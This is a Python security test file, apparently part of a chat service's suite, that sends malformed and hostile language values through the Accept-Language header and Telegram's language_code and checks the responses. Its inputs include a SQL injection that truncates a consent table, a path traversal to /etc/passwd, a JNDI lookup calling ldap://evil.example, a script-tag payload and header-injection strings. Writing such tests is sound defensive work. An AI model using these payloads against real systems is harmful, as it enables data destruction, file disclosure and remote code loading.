"""What a client says its language is (CWE-20, CWE-113, CWE-400): matched against the policy's, and nothing else."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

from tests.attacks.attack import TURN, Attack, Reply
from tests.attacks.site import Site

_RANGES = {
    "an unknown language": "tlh, xx-unknown",
    "a list of 4,000 characters": "de," * 1_333,
    "a tag of 2,000 characters": "de-" + "a" * 2_000,
    "SQL (CWE-89)": "de'; TRUNCATE consent.event; --",
    "a path (CWE-22)": "../../../../etc/passwd",
    "a template (CWE-1336)": "{{7*7}} ${jndi:ldap://evil.example}",
    "a script (CWE-79)": "<script>alert(1)</script>",
    "JSON": '{"language": "de", "operation": "op_x"}',
    "a weight of many digits": "de;q=0." + "9" * 1_000,
}
_CODES: dict[str, Any] = {
    "a list": ["de"],
    "an object": {"de": {"operation": "op_x"}},
    "a number": 10**30,
    "a text of 100,000 characters": "de-" * 33_333,
    "a line feed": "de\r\nX: 1",
}


def _said(said: str) -> Callable[[Site], bytes]:
    return lambda site: site.web(None, ("Accept-Language", said))


def _code(code: Any) -> Callable[[Site], bytes]:
    """Telegram's own request, of a person whose app says this."""

    def made(site: Site) -> bytes:
        request = site.phone("telegram").writes("tell me a joke")
        update = json.loads(request.body)
        update["message"]["from"]["language_code"] = code
        return site.hook("telegram", replace(request, body=json.dumps(update).encode()))

    return made


def _their_own_words(_site: Site, reply: Reply) -> None:
    assert json.loads(reply.body)["you"] == "tell me a joke"


_AT_TELEGRAM = {"turns": 1, "letters": 1, "people": 1, "receipts": 1}
_REFUSED = (400, "bad_request", ("web", "bad_request"))
ATTACKS = [
    *(
        Attack(f"{name} in Accept-Language", _said(said), 200, changes=TURN, after=_their_own_words)
        for name, said in _RANGES.items()
    ),
    Attack(
        "Accept-Language twice",
        lambda s: s.web(None, ("Accept-Language", "de"), ("Accept-Language", "en")),
        200,
        changes=TURN,
        after=_their_own_words,
    ),
    Attack("a header behind a bare line feed in Accept-Language", _said("de\nX-Sender-Id: anna"), *_REFUSED),
    Attack("a control character in Accept-Language", _said("de\x00"), *_REFUSED),
    Attack("bytes that are no UTF-8 in Accept-Language", _said("\udcff\udcfe"), *_REFUSED),
    Attack("a language in the body", lambda s: s.web(language="de"), *_REFUSED),
    Attack("metadata with a language", lambda s: s.web(metadata={"language": "de"}), *_REFUSED),
    *(
        Attack(f"{name} as Telegram's language_code", _code(code), 200, changes=_AT_TELEGRAM)
        for name, code in _CODES.items()
    ),
]
